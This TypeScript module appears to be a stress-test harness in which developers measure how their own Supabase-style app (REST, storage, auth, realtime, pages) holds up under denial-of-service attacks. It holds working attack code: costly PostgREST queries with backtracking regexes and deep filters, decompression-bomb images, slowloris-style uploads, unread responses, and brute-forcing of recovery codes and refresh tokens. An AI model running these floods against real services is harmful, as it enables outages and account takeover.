import { randomUUID } from 'node:crypto'
import { connect } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'
import sharp from 'sharp'
import { WebSocket } from 'ws'

type Request = Readonly<{
  path: string
  method?: 'GET' | 'POST' | 'PUT'
  headers?: Record<string, string>
  body?: string | Buffer
}>

/** Target of an attack, and callbacks that count its requests. */
export type Target = Readonly<{
  url: string
  publishableKey: string
  isOver(): boolean
  /** A response by status, or a request without one. */
  count(status: number | undefined): void
  /** Resolves with the status when the body was read. */
  send(request: Request): Promise<number>
}>

type Attack = (target: Target, connections: number) => Promise<void>

/** One kind of request on every connection, one after the other. */
function flood(request: (n: number) => Request | Promise<Request>): Attack {
  return async (target, connections) => {
    let n = 0
    const worker = async () => {
      while (!target.isOver()) {
        const next = await request(n++)
        await target.send(next).then(target.count, () => target.count(undefined))
      }
    }
    await Promise.all(Array.from({ length: connections }, worker))
  }
}

const events = (search: string): Request => ({ path: `/rest/v1/events?${search}` })
const times = (count: number, text: (n: number) => string, by = ',') =>
  Array.from({ length: count }, (_, n) => text(n)).join(by)
const json = (path: string, body: object): Request => ({
  path,
  method: 'POST',
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify(body),
})
const person = (n: number) => ({ email: `max${n}@example.org`, password: 'Brezn-und-Bier' })

/** The most expensive requests by service. Each differs from the one before, so that no cache answers it. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  // Baseline of the machine, to compare the others with.
  'nobody attacks': async (target) => {
    while (!target.isOver()) await pause(100)
  },
  'rest: 1,600 aliases of a text': flood((n) =>
    events(`select=${times(1600, (a) => `a${a}:description`)}&limit=20&title=neq.${n}`),
  ),
  'rest: as many aliases as are taken': flood((n) =>
    events(`select=${times(4, (a) => `a${a}:description`)}&title=neq.${n}`),
  ),
  'rest: regular expressions': flood((n) =>
    events(`description=match.${encodeURIComponent(`^(.+)(.+)(.+)\\1\\2\\3${n}$`)}`),
  ),
  'rest: slow filters': flood((n) =>
    events(
      `select=id&${times(100, (a) => `description=not.ilike.*${encodeURIComponent('_'.repeat(200))}%25${n}${a}`, '&')}`,
    ),
  ),
  'rest: long lists': flood((n) => events(`id=in.(${times(2000, (a) => String(a))},${n})`)),
  'rest: deep trees of conditions': flood((n) =>
    events(`or=(${'and('.repeat(18)}${times(2000, (a) => `title.eq.${n}${a}`)}${')'.repeat(18)})`),
  ),
  'rest: answers that nobody reads': (target, connections) => neverRead(target, connections),
  'storage: other sizes of pictures': flood((n) => ({
    path: `/storage/v1/render/image/public/event-images/wochenmarkt.jpg?width=${100 + (n % 2400)}&height=${100 + ((n * 7) % 2400)}&quality=${20 + (n % 80)}`,
  })),
  'storage: huge pictures': flood(async (n) => ({
    path: `/storage/v1/object/event-images/${randomUUID()}.png`,
    method: 'POST',
    headers: { 'content-type': 'image/png', 'x-number': String(n) },
    body: await hugePicture(n),
  })),
  'storage: slow uploads': (target, connections) => slowUploads(target, connections),
  'auth: signing in': flood((n) => json('/auth/v1/token?grant_type=password', person(n % 100))),
  'auth: signing up': flood((n) => json('/auth/v1/signup', person(n))),
  'auth: trying codes': flood((n) =>
    json('/auth/v1/verify', {
      type: 'recovery',
      email: `max${n % 100}@example.org`,
      token: String(100_000 + (n % 900_000)),
    }),
  ),
  'auth: trying refresh tokens': flood(() =>
    json('/auth/v1/token?grant_type=refresh_token', { refresh_token: randomUUID() }),
  ),
  'realtime: large filters': (target) => largeFilters(target),
  'pages: random searches': flood((n) => ({
    path: `/gutscheine?suche=${n}${randomUUID()}`,
    headers: { 'accept-encoding': (['br', 'gzip', ''] as const)[n % 3] ?? '' },
  })),
  'pages: large cookies': flood((n) => ({
    path: '/events',
    headers: { cookie: `sitzung=${n}${'x'.repeat(16_000)}` },
  })),
  'pages: none of ours': flood(() => ({ path: `/${randomUUID()}` })),
}

/** Files of less than a megabyte that decode to 49 megapixels: line by line, with all scans in memory, and as one column. */
let pictures: Promise<Buffer[]> | undefined
async function hugePicture(n: number): Promise<Buffer> {
  const plain = (width: number, height: number) =>
    sharp({ create: { width, height, channels: 3, background: '#7a1f2b' }, limitInputPixels: false })
  pictures ??= Promise.all([
    plain(7_000, 7_000).png({ compressionLevel: 9 }).toBuffer(),
    plain(7_000, 7_000).toColourspace('cmyk').jpeg({ quality: 30, progressive: true }).toBuffer(),
    plain(1, 49_000_000).png().toBuffer(),
  ])
  const made = await pictures
  return made[n % made.length] ?? Buffer.alloc(0)
}

/** Raw connections of an attacker that does not read or finish. */
function open(target: Target, head: string) {
  const { hostname, port } = new URL(target.url)
  const socket = connect({ host: hostname, port: Number(port), localAddress: '127.0.0.2' })
  socket.on('error', () => target.count(undefined))
  socket.write(`${head} HTTP/1.1\r\nhost: ${hostname}\r\napikey: ${target.publishableKey}\r\n`)
  return socket
}

/** Each connection requests the largest response repeatedly without reading it. */
async function neverRead(target: Target, connections: number): Promise<void> {
  const path = `/rest/v1/events?select=${times(3, (a) => `a${a}:description`)}&title=neq.`
  const sockets = Array.from({ length: connections }, (_, n) => {
    const socket = open(target, `GET ${path}${n}`)
    socket.pause()
    socket.write('\r\n')
    for (let more = 0; more < 5; more += 1) {
      socket.write(
        `GET ${path}${n}${more} HTTP/1.1\r\nhost: zunft\r\napikey: ${target.publishableKey}\r\n\r\n`,
      )
    }
    return socket
  })
  while (!target.isOver()) await pause(100)
  for (const socket of sockets) socket.destroy()
}

/** Each connection uploads a picture of 10 MB, some hundred bytes at a time. */
async function slowUploads(target: Target, connections: number): Promise<void> {
  const sockets = Array.from({ length: connections }, () => {
    const socket = open(target, `POST /storage/v1/object/event-images/${randomUUID()}.jpg`)
    socket.on('data', (chunk: Buffer) =>
      target.count(Number(/^HTTP\/1\.1 (\d+)/.exec(chunk.toString())?.[1]) || undefined),
    )
    socket.write('content-type: image/jpeg\r\ncontent-length: 10000000\r\n\r\n')
    return socket
  })
  while (!target.isOver()) {
    for (const socket of sockets) if (socket.writable) socket.write(Buffer.alloc(500, 0xff))
    await pause(100)
  }
  for (const socket of sockets) socket.destroy()
}

/** Sixteen WebSockets with a hundred channels of large filters each, while likes cause change events. */
async function largeFilters(target: Target): Promise<void> {
  const ids = times(1_500, () => randomUUID())
  const change = { event: '*', schema: 'public', table: 'events', filter: `id=in.(${ids})` }
  const address = `${target.url.replace('http', 'ws')}/realtime/v1/websocket?apikey=${target.publishableKey}&vsn=1.0.0`
  const sockets = Array.from({ length: 16 }, () => {
    const socket = new WebSocket(address, { localAddress: '127.0.0.2' })
    socket.on('error', () => target.count(undefined))
    socket.on('close', (code) => target.count(code))
    socket.on('open', () => {
      for (let n = 0; n < 100; n += 1) {
        const payload = { config: { postgres_changes: [change] } }
        socket.send(
          JSON.stringify({
            topic: `realtime:${n}`,
            event: 'phx_join',
            payload,
            ref: String(n),
            join_ref: String(n),
          }),
        )
      }
    })
    return socket
  })
  let n = 0
  while (!target.isOver()) {
    const event = {
      ...{
        title: `Treffen ${n++}`,
        description: 'Alle sind da.',
        category: 'market',
        location: 'Marktplatz',
      },
      ...{ start_date: '2031-01-01T09:00:00Z', end_date: '2031-01-01T10:00:00Z', is_user_submitted: true },
      ...{ submitter_name: 'Erika Mustermann', submitter_email: 'erika@example.org' },
    }
    await target.send(json('/rest/v1/events', event)).then(target.count, () => target.count(undefined))
    await pause(500)
  }
  for (const socket of sockets) socket.terminate()
}
